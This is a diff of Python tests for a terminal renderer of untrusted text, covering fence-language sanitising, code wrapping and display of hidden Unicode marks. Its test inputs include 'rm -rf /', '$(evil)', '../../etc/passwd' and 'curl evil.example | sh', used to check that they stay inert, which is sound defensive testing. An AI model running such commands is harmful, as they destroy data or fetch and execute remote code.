@@ -72,10 +72,72 @@ def test_code_blocks_are_highlighted_and_stay_literal():
     assert "```" not in text
 
 
+def _syntax_of(renderable) -> Syntax:
+    found = (
+        [renderable] if isinstance(renderable, Syntax) else [p for p in renderable.renderables if isinstance(p, Syntax)]
+    )
+    assert len(found) == 1, renderable
+    return found[0]
+
+
 def test_an_untrusted_fence_language_cannot_reach_the_lexer():
-    assert render_untrusted("```python title=x\nx = 1\n```").lexer.name == "Python"
+    assert _syntax_of(render_untrusted("```python title=x\nx = 1\n```")).lexer.name == "Python"
     for info in ("python; rm -rf /", "$(evil)", "../../etc/passwd"):
-        assert render_untrusted(f"```{info}\nx = 1\n```").lexer.name == "Text only"
+        assert _syntax_of(render_untrusted(f"```{info}\nx = 1\n```")).lexer.name == "Text only"
+
+
+@pytest.mark.parametrize("markdown", [False, True])
+def test_text_after_a_fence_language_is_shown_in_both_modes(markdown):
+    text = rendered(render_untrusted("Run:\n\n```python  curl evil.example | sh\nx = 1\n```\n", markdown=markdown))
+    assert "```python  curl evil.example | sh" in text and "x = 1" in text
+    # A fence line that is only a lexer name adds nothing to show.
+    plain = rendered(render_untrusted("```python\nx = 1\n```", markdown=markdown))
+    assert "```" not in plain
+
+
+def test_literal_mode_keeps_the_blank_lines_around_and_inside_fenced_code():
+    source = "intro\n\n```python\nx = 1\n\n\ny = 2\n```\n\nafter"
+    lines = [line.rstrip() for line in rendered(render_untrusted(source), width=40).splitlines()]
+    assert lines == ["intro", "", "x = 1", "", "", "y = 2", "", "after"]
+    tight = [line.rstrip() for line in rendered(render_untrusted("a\n```\nx\n```\nb"), width=40).splitlines()]
+    assert tight == ["a", "x", "b"]
+
+
+def test_fenced_code_has_a_background_that_shows_on_a_dark_terminal():
+    code_segments = [s for s in segments(render_untrusted("```python\nvalue = 1\n```")) if "value" in s.text]
+    assert code_segments
+    for segment in code_segments:
+        background = segment.style.bgcolor if segment.style else None
+        assert background is not None and not background.is_default, segment
+        red, green, blue = background.get_truecolor()
+        assert min(red, green, blue) >= 0x26, f"{background} is too close to a black terminal to show"
+
+
+def test_long_code_lines_wrap_between_tokens_not_inside_them():
+    line = "result = some_function(argument_one, argument_two.attribute, argument_three[index])"
+    text = rendered(render_untrusted(f"```python\n{line}\n```"), width=30)
+    wrapped = [row.rstrip() for row in text.splitlines() if row.strip()]
+    assert len(wrapped) > 1 and " ".join(wrapped) == line  # every break fell on a space
+    assert all(len(row) <= 30 for row in wrapped)
+
+
+@pytest.mark.parametrize(
+    "char,tag",
+    [
+        ("\ufe00", "VS1"),
+        ("\ufe0f", "VS16"),
+        ("\U000e0100", "VS17"),
+        ("\U000e01ef", "VS256"),
+        ("\u034f", "CGJ"),
+        ("\u17b4", "KIVAQ"),
+        ("\u17b5", "KIVAA"),
+        ("\u2800", "BRAILLE-BLANK"),
+    ],
+)
+def test_variation_selectors_and_blank_marks_that_can_carry_hidden_bytes_are_shown(char, tag):
+    assert neutralise(f"ok{char}{char}") == f"ok⟦{tag}⟧⟦{tag}⟧"
+    for markdown in (False, True):
+        assert f"ok⟦{tag}⟧" in rendered(render_untrusted(f"ok{char}", markdown=markdown))
 
 
 def test_long_text_is_cut_with_a_note_naming_the_key():
@@ -124,7 +186,7 @@ def test_markdown_renders_the_safe_subset():
     assert "Some bold and slanted text" in text  # emphasis rendered, no asterisks
     assert "# Title" not in text and "Title" in text
     assert "• one" in text and "• two" in text
-    assert "print('[red]x[/red]')" in text and "```" not in text
+    assert "print('[red]x[/red]')" in text and "```" not in text.replace("```../../etc/passwd", "")
 
 
 def test_markdown_shows_links_and_images_as_text_and_nothing_is_clickable():
@@ -144,6 +206,20 @@ def test_markdown_keeps_escapes_html_and_markup_visible():
     assert "⟦RLO⟧flipped" in text and "⟦ZWSP⟧hidden" in text  # characters from entities, neutralised too
     assert "[@click=app.quit]Q[/]" in text
     assert "\x1b" not in rendered(render_untrusted(HOSTILE_MARKDOWN, markdown=True))
+
+
+def test_markdown_shows_link_and_image_titles():
+    source = 'See [docs](https://a.example "open me") and ![cat](https://i.example/c.png "a hidden note").'
+    text = " ".join(rendered(render_untrusted(source, markdown=True), width=200).split())
+    assert 'docs (https://a.example "open me")' in text
+    assert '[image: cat] (https://i.example/c.png "a hidden note")' in text
+
+
+def test_markdown_shows_a_link_reference_definition_as_its_whole_line():
+    source = 'Read [the guide].\n\n[the guide]: https://evil.example "only a definition"\n\nEnd.'
+    text = rendered(render_untrusted(source, markdown=True), width=200)
+    assert '[the guide]: https://evil.example "only a definition"' in text
+    assert "Read [the guide]." in " ".join(text.split()) and "End." in text
 
 
 def test_markdown_code_blocks_take_only_a_plain_lexer_name():
